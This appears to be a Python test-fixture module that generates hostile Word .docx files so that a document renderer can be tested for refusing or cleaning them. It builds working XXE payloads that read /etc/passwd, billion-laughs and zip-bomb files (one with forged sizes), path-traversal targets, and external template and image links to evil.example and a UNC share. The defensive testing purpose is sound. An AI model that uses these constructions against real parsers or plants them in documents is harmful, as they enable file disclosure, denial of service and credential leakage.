"""Hostile reference .docx files, made at run time from the reference document the package ships."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from harness import PACKAGE

REFERENCE = PACKAGE / "render" / "reference.docx"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(REFERENCE) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pack(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _edit(name: str, old: bytes, new: bytes, entries: dict[str, bytes]) -> dict[str, bytes]:
    assert old in entries[name], (name, old)
    entries[name] = entries[name].replace(old, new, 1)
    return entries


def _add_rel(entries: dict[str, bytes], rels: str, rel: str) -> None:
    _edit(rels, b"</Relationships>", rel.encode() + b"</Relationships>", entries)


def attached_template(target: str) -> bytes:
    """settings.xml names an external template (Word fetches it when the document opens)."""
    entries = parts()
    entries["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{RT}attachedTemplate" Target="{target}" TargetMode="External"/>'
        "</Relationships>").encode()
    _edit("word/settings.xml", b"<w:defaultTabStop",
          b'<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/><w:docVars><w:docVar w:name="x" w:val="y"/>'
          b"</w:docVars><w:defaultTabStop", entries)
    return pack(entries)


def macro_enabled() -> bytes:
    """A .docm in disguise: a VBA project, its relationship and the macro-enabled content type."""
    entries = parts()
    entries["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"x\"\r\n" * 20
    entries["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    _add_rel(entries, "word/_rels/document.xml.rels",
             '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
             'Target="vbaProject.bin"/>')
    types = entries["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    types = types.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                          b'vnd.ms-office.vbaProject"/></Types>')
    entries["[Content_Types].xml"] = types
    return pack(entries)


def external_header_image() -> bytes:
    """The default header shows a picture linked from a web server (fetched when Word opens it)."""
    entries = parts()
    entries["word/_rels/header1.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdImg" Type="{RT}image" Target="http://evil.example/track.png" TargetMode="External"/>'
        f'<Relationship Id="rIdLink" Type="{RT}hyperlink" Target="file:///etc/passwd" TargetMode="External"/>'
        '<Relationship Id="rIdOle" Type="' + RT + 'oleObject" Target="../embeddings/x.bin"/>'
        "</Relationships>").encode()
    entries["word/embeddings/x.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 64
    header = entries["word/header1.xml"]
    pict = (b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rIdImg" '
            b'xmlns:r="' + R_NS.encode() + b'"/></v:shape></w:pict></w:r><w:hyperlink r:id="rIdLink" xmlns:r="'
            + R_NS.encode() + b'"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>')
    close = header.rindex(b"</w:hdr>")
    entries["word/header1.xml"] = header[:close] + pict + header[close:]
    return pack(entries)


def xxe() -> bytes:
    entries = parts()
    styles = entries["word/styles.xml"]
    decl_end = styles.index(b"?>") + 2
    entries["word/styles.xml"] = (styles[:decl_end] + b'<!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                  + styles[decl_end:].replace(b"Noto Sans Myanmar", b"&x;", 1))
    return pack(entries)


def billion_laughs() -> bytes:
    entries = parts()
    styles = entries["word/styles.xml"]
    decl_end = styles.index(b"?>") + 2
    lol = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    dtd = f'<!DOCTYPE w:styles [<!ENTITY l0 "lol">{lol}]>'.encode()
    entries["word/styles.xml"] = styles[:decl_end] + dtd + styles[decl_end:].replace(b"Noto Sans", b"&l9;", 1)
    return pack(entries)


def malformed_styles() -> bytes:
    entries = parts()
    entries["word/styles.xml"] = entries["word/styles.xml"].replace(b"</w:styles>", b"<w:style></w:styles>")
    return pack(entries)


def zip_bomb_honest() -> bytes:
    """styles.xml padded with 300 MB of spaces; the sizes in the zip say so."""
    entries = parts()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            if name != "word/styles.xml":
                archive.writestr(name, data)
        with archive.open("word/styles.xml", "w", force_zip64=True) as handle:
            handle.write(data_without_end := entries["word/styles.xml"][:-len(b"</w:styles>")])
            chunk = b" " * (1 << 20)
            for _ in range(300):
                handle.write(chunk)
            handle.write(b"</w:styles>")
            del data_without_end
    return out.getvalue()


def zip_bomb_lying() -> bytes:
    """styles.xml inflates to 1 GiB, but the zip claims 10,600 bytes (central directory and local header)."""
    entries = parts()
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    real = entries["word/styles.xml"]
    body = compressor.compress(real[:-len(b"</w:styles>")])
    chunk = b" " * (1 << 20)
    body += b"".join(compressor.compress(chunk) for _ in range(1024))
    body += compressor.compress(b"</w:styles>") + compressor.flush()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in entries.items():
            if part == "word/styles.xml":
                info = zipfile.ZipInfo(part)
                info.compress_type = zipfile.ZIP_STORED  # placeholder: patched to deflate below
                archive.writestr(info, b"\x00" * len(body))
            else:
                archive.writestr(part, content)
    data = bytearray(out.getvalue())
    # Patch the stored placeholder into a deflated entry with a small claimed size and the real CRC of
    # what it claims; the raw deflate stream is the same length as the placeholder.
    name = b"word/styles.xml"
    local = 0
    while True:
        local = data.find(b"PK\x03\x04", local)
        name_len = struct.unpack_from("<H", data, local + 26)[0]
        if bytes(data[local + 30:local + 30 + name_len]) == name:
            break
        local += 4
    extra_len = struct.unpack_from("<H", data, local + 28)[0]
    start = local + 30 + name_len + extra_len
    data[start:start + len(body)] = body
    crc = zlib.crc32(real) & 0xFFFFFFFF
    struct.pack_into("<HHHIII", data, local + 8, 8, 0, 0, crc, len(body), len(real))
    central = 0
    while True:
        central = data.find(b"PK\x01\x02", central)
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if bytes(data[central + 46:central + 46 + name_len]) == name:
            break
        central += 4
    struct.pack_into("<H", data, central + 10, 8)
    struct.pack_into("<III", data, central + 16, crc, len(body), len(real))
    return bytes(data)


def many_entries() -> bytes:
    entries = parts()
    for i in range(3000):
        entries[f"word/media/junk{i}.xml"] = b"<x/>"
    return pack(entries)


def encrypted_flag() -> bytes:
    data = bytearray(pack(parts()))
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        data[pos + 8] |= 0x1
        pos += 4
    pos = 0
    while (pos := data.find(b"PK\x03\x04", pos)) >= 0:
        data[pos + 6] |= 0x1
        pos += 4
    return bytes(data)


def traversal_targets() -> bytes:
    entries = parts()
    _add_rel(entries, "word/_rels/document.xml.rels",
             f'<Relationship Id="rIdX" Type="{RT}image" Target="../../../../etc/passwd"/>'
             f'<Relationship Id="rIdY" Type="{RT}subDocument" Target="file:///etc/passwd" TargetMode="External"/>'
             f'<Relationship Id="rIdZ" Type="{RT}aFChunk" Target="../../../canary.txt"/>')
    entries["../../../evil.xml"] = b"<x/>"
    return pack(entries)


def not_word() -> bytes:
    entries = parts()
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml")
    return pack(entries)


#: name -> bytes maker; each is refused (exit 2, a diagnostic naming the file) or cleaned (see CLEANED).
REFERENCES: dict[str, Callable[[], bytes]] = {
    "truncated": lambda: REFERENCE.read_bytes()[: REFERENCE.stat().st_size // 2],
    "truncated-end": lambda: REFERENCE.read_bytes()[:-30],
    "not-a-zip": lambda: b"This is not a Word document.\n" * 10,
    "png-named-docx": lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
    "empty": lambda: b"",
    "corrupt-member": lambda: _corrupt_member(),
    "zip-without-word": lambda: pack({"hello.txt": b"hi"}),
    "malformed-styles": malformed_styles,
    "xxe-styles": xxe,
    "billion-laughs-styles": billion_laughs,
    "zip-bomb-honest-sizes": zip_bomb_honest,
    "zip-bomb-lying-sizes": zip_bomb_lying,
    "many-entries": many_entries,
    "encrypted": encrypted_flag,
    "spreadsheet": not_word,
    "attached-template-http": lambda: attached_template("http://evil.example/Normal.dotm"),
    "attached-template-file": lambda: attached_template("file:///etc/passwd"),
    "attached-template-unc": lambda: attached_template("\\\\evil.example\\share\\Normal.dotm"),
    "macro-enabled": macro_enabled,
    "external-header-image": external_header_image,
    "traversal-targets": traversal_targets,
}
#: The ones a careful writer may use after cleaning (their danger is in parts it drops).
CLEANED = {"attached-template-http", "attached-template-file", "attached-template-unc", "macro-enabled",
           "external-header-image", "traversal-targets"}


def _corrupt_member() -> bytes:
    data = bytearray(REFERENCE.read_bytes())
    local = data.find(b"word/styles.xml")
    data[local + 40: local + 80] = b"\xff" * 40  # inside styles.xml's deflated data
    return bytes(data)
